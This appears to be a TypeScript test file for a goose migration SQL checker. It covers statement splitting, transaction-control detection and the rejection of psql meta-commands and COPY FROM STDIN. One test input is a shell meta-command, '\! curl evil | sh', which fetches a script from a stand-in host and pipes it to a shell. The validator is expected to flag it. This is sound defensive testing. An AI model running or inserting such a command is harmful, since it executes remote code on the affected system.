import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { migrationSqlProblems, splitStatements, transactionControl, upSection } from "./sql";

const lexing = readFileSync(join(__dirname, "..", "test", "fixtures", "lexing", "001_lexing.sql"), "utf8");

describe("upSection", () => {
  it("GIVEN Up and Down sections THEN only Up lines remain, annotations and Down blank, line numbers kept; CRLF as LF", () => {
    const content = ["-- +goose NO TRANSACTION", "-- +goose Up", "SELECT 1;", "-- +goose Down", "SELECT 2;", ""].join("\r\n");
    expect(upSection(content)).toStrictEqual({ lines: ["", "", "SELECT 1;", "", "", ""], noTransaction: true });
  });

  it("GIVEN no Up annotation THEN the whole file runs, in a transaction", () => {
    expect(upSection("SELECT 1;\n-- a comment\n")).toStrictEqual({ lines: ["SELECT 1;", "-- a comment", ""], noTransaction: false });
  });
});

describe("splitStatements", () => {
  it("GIVEN the lexing fixture THEN 10 statements, each with the line it starts on and its first words; no backslash outside strings", () => {
    const { statements, backslashes } = splitStatements(upSection(lexing).lines);
    expect(statements.map((s) => `${s.line} ${s.words.slice(0, 2).join(" ")}`)).toStrictEqual([
      "4 create table",
      "5 insert into",
      "8 insert into",
      "9 savepoint before_four",
      "9 insert into",
      "9 rollback to",
      "9 release savepoint",
      "11 do",
      "17 create function",
      "21 insert into",
    ]);
    expect(statements[1]!.text).toBe(
      "INSERT INTO lexing VALUES (1, 'it''s; COMMIT;', E'tab\\t; quote \\' ; backslash \\\\'), (2, 'C:\\temp\\; ROLLBACK;', $x$a $$ nested; COMMIT;\n\\! not a meta-command\n$x$);",
    );
    expect(statements[8]!.text).toMatch(/^CREATE FUNCTION lexing_label[^]*'many; COMMIT' ELSE 'few' END;\nEND;$/);
    expect(backslashes).toStrictEqual([]);
  });

  it("GIVEN backslashes outside strings and comments THEN each with its line, at a line's start or after a statement", () => {
    const { backslashes, statements } = splitStatements(["SELECT 1; \\! id", "  \\set x 1", "SELECT '\\x', $$\\y$$; -- \\z", "/* \\w */"]);
    expect(backslashes).toStrictEqual([
      { line: 1, text: "\\! id" },
      { line: 2, text: "\\set x 1" },
    ]);
    expect(statements.map((s) => s.line)).toStrictEqual([1, 1]);
  });

  it("GIVEN a last statement without a semicolon THEN it is one too", () => {
    expect(splitStatements(["SELECT 1;", "SELECT 2"]).statements.map((s) => s.text)).toStrictEqual(["SELECT 1;", "SELECT 2\n"]);
  });

  it("GIVEN COPY ... FROM STDIN THEN it is marked; stdin in a string is not", () => {
    const { statements } = splitStatements(["COPY t FROM STDIN;", "COPY t TO STDOUT;", "COPY (SELECT 'stdin') TO STDOUT;"]);
    expect(statements.map((s) => s.copyFromStdin)).toStrictEqual([true, false, false]);
  });
});

describe("transactionControl", () => {
  it.each([
    ["BEGIN", "BEGIN"],
    ["begin work", "BEGIN"],
    ["START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "START TRANSACTION"],
    ["COMMIT", "COMMIT"],
    ["COMMIT AND CHAIN", "COMMIT"],
    ["END", "END"],
    ["ROLLBACK", "ROLLBACK"],
    ["ROLLBACK WORK", "ROLLBACK"],
    ["ABORT", "ABORT"],
    ["PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION"],
    ["ROLLBACK TO SAVEPOINT s", undefined],
    ["ROLLBACK TRANSACTION TO s", undefined],
    ["SAVEPOINT s", undefined],
    ["RELEASE SAVEPOINT s", undefined],
    ["PREPARE q AS SELECT 1", undefined],
    ["SET TRANSACTION READ ONLY", undefined],
    ['SELECT "begin" FROM t', undefined],
  ])("GIVEN %s THEN %s", (sql, expected) => {
    expect(transactionControl(splitStatements([`${sql};`]).statements[0]!.words)).toBe(expected);
  });
});

describe("migrationSqlProblems", () => {
  it("GIVEN the goose-style fixtures and the lexing fixture THEN none", () => {
    expect(migrationSqlProblems(lexing)).toStrictEqual([]);
    for (const file of [
      "001_initial_schema.sql",
      "002_stored_procedures.sql",
      "003_concurrent_index.sql",
      "9_add_status.sql",
      "10_no_transaction.sql",
    ]) {
      expect(migrationSqlProblems(readFileSync(join(__dirname, "..", "test", "fixtures", "goose", file), "utf8"))).toStrictEqual([]);
    }
  });

  it("GIVEN a psql meta-command in the Up section THEN a problem naming its line; in the Down section THEN none", () => {
    expect(migrationSqlProblems("-- +goose Up\nCREATE TABLE a (id int);\n\\! curl evil | sh\n")).toStrictEqual([
      'line 3: "\\\\! curl evil | sh" is a psql meta-command (a backslash outside a string or comment): goose sends SQL to the server, which runs no meta-commands, and neither does this Job (\\! would run a shell in it); remove it',
    ]);
    expect(migrationSqlProblems("-- +goose Up\nSELECT 1;\n-- +goose Down\n\\! id\n")).toStrictEqual([]);
  });

  it("GIVEN BEGIN/COMMIT/ROLLBACK, in a NO TRANSACTION file or not THEN no problem (the script runs such a file without a wrapping transaction)", () => {
    const sql = "CREATE TABLE a (id int);\nCOMMIT;\nBEGIN;\nCREATE TABLE b (id int); ROLLBACK;\n";
    expect(migrationSqlProblems(sql)).toStrictEqual([]);
    expect(migrationSqlProblems(`-- +goose NO TRANSACTION\n${sql}`)).toStrictEqual([]);
  });

  it("GIVEN COPY ... FROM STDIN THEN a problem, NO TRANSACTION or not", () => {
    expect(migrationSqlProblems("-- +goose NO TRANSACTION\nCOPY t (a) FROM stdin;\n")).toStrictEqual([
      "line 2: COPY ... FROM STDIN reads its rows from the client, which neither goose nor this Job sends: use INSERT",
    ]);
  });
});
